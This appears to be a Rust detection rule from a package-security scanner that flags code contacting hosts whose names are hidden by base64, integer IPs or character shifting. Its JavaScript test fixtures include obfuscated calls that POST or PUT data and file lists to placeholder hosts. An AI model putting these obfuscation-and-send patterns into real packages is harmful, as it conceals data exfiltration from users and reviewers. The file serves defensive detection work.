//! Talks to a host whose name the code puts together so that nobody can read it.

use std::collections::BTreeSet;

use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::behaviours::Behaviour;
use crate::model::{Origin, Severity};
use crate::source::decode;
use crate::value::stands_in;

pub(super) static FINDING: Declaration = Declaration {
    id: "hidden-destination",
    title: "Hides whom it talks to",
    severity: Severity::High,
    summary: "The package talks to a host whose name stands nowhere in it: the code decodes it, or puts it together from letters, numbers or reversed text.",
    advice: "Ask the author why the address may not be read. What is sent there should be looked at line by line.",
    benign_when: "A build tool has packed the whole program, addresses and all, and other packages of the same author are packed alike.",
    references: &["CWE-506", "T1027", "T1132.001"],
    examples: &[
        Example {
            name: "an address in base64",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const at = Buffer.from("aHR0cHM6Ly9zdGF0cy5vdGhlci5pbnZhbGlkL3Y=", "base64").toString();
exports.track = (what) => fetch(at, { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "an address that is a number",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const peer = 0xc0000207;
const at = [24, 16, 8, 0].map((bits) => (peer >>> bits) & 255).join(".");
exports.open = () => require("net").connect(4000, at);"#,
                ),
            ],
        },
        Example {
            name: "an encoded address for a function that the caller gives",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const zones = { eu: "c3RhdHMtZXUub3RoZXIuaW52YWxpZA==" };
exports.lease = (send, id) => send({ url: `https://${Buffer.from(zones.eu, "base64")}/lease/${id}` });"#,
                ),
            ],
        },
        Example {
            name: "letters that are moved by three, in a function that waits",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const name = (codes) => codes.map((code) => String.fromCharCode(code - 3)).join("");
exports.check = (files) => {
  const host = name([118, 119, 100, 119, 118, 49, 114, 119, 107, 104, 117, 49, 108, 113, 121, 100, 111, 108, 103]);
  require("https").request({ hostname: host, method: "PUT" }).end(JSON.stringify(files));
};"#,
                ),
            ],
        },
        Example {
            name: "an address that is put together from readable parts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const host = ["api", "service", "example"].join(".");
exports.track = (what) => fetch("https://" + host + "/v1", { method: "POST", body: what });"#,
                ),
            ],
        },
        Example {
            name: "credentials in base64 for an address that is plain",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const key = Buffer.from("cHVibGljLWtleQ==", "base64").toString();
exports.track = (what) => fetch("https://api.service.example/v1?key=" + key, { method: "POST", body: what });"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let mut told: BTreeSet<String> = BTreeSet::new();
    let mut text: Option<String> = None;
    let mut asked = 0;
    let mut left = MOST_SEARCHED;
    // What is known to be decoded comes first, so that nothing else uses up the search.
    let is_hidden = |one: &&Behaviour| {
        one.what.id == "evasion.hidden-address"
            || (one.what.id.starts_with("network.") && one.origin.has(Origin::Decoded))
    };
    let hidden = context.behaviours.iter().filter(is_hidden);
    let plain = context
        .behaviours
        .iter()
        .filter(|one| one.what.id.starts_with("network.") && !is_hidden(one));
    for behaviour in hidden.chain(plain) {
        let Some(url) = behaviour.target.as_deref() else {
            continue;
        };
        // The host, and not what is asked of it.
        let Some(at) = host::host(url).filter(|at| !at.contains('<')) else {
            continue;
        };
        if !told.insert(at.clone()) || is_written(context, behaviour, &at, &mut left) {
            continue;
        }
        // Who puts a name together from parts that can be read hides nothing.
        if !is_hidden(&behaviour) {
            let is_new = at.contains('.') && asked < MOST_ASKED;
            asked += usize::from(is_new);
            if !is_new || stands_in(&at, text.get_or_insert_with(|| text_of(context))) {
                continue;
            }
        }
        let message = format!("talks to {at}, a name that is not to be read anywhere");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        match context.home.whose(url) {
            Some(Whose::Own | Whose::Registry) => {
                let note = "the host is the package's own, or a registry".to_owned();
                finding.lower(Severity::Low, "own-host", note);
            }
            Some(Whose::Local) => continue,
            Some(Whose::Foreign) | None => {}
        }
        found.push(finding);
    }
}

/// Bytes that are searched for hosts, one behind the other.
const MOST_SEARCHED: usize = 1 << 30;
/// Hosts whose parts are searched for.
const MOST_ASKED: usize = 32;
/// Bytes that are searched for them.
const MOST_TEXT: usize = 4 << 20;

/// What stands in the package's files of code and data, as far as that is looked at.
fn text_of(context: &Context<'_>) -> String {
    let mut text = String::new();
    for entry in &context.archive.entries {
        let bytes = context.archive.buffer.get(entry.range.clone());
        let bytes = bytes.filter(|bytes| text.len() + bytes.len() <= MOST_TEXT);
        if let Some(bytes) = bytes {
            text.push_str(&decode(bytes).text);
            text.push('\n');
        }
    }
    text
}

/// Whether a file of the package says the host: the one that asks it, or another. What is too
/// much to search counts as written.
fn is_written(context: &Context<'_>, asks: &Behaviour, at: &str, left: &mut usize) -> bool {
    let own = asks.sites.first().map(|site| site.file);
    let own = own.map_or(&[][..], |file| context.archive.bytes(file));
    let others = context.archive.entries.iter();
    let others = others.filter_map(|entry| context.archive.buffer.get(entry.range.clone()));
    for bytes in std::iter::once(own).chain(others) {
        let place = memchr::memmem::find(bytes, at.as_bytes());
        let searched = place.unwrap_or(bytes.len());
        let is_over = searched > *left;
        *left = left.saturating_sub(searched);
        if place.is_some() || is_over {
            return true;
        }
    }
    false
}
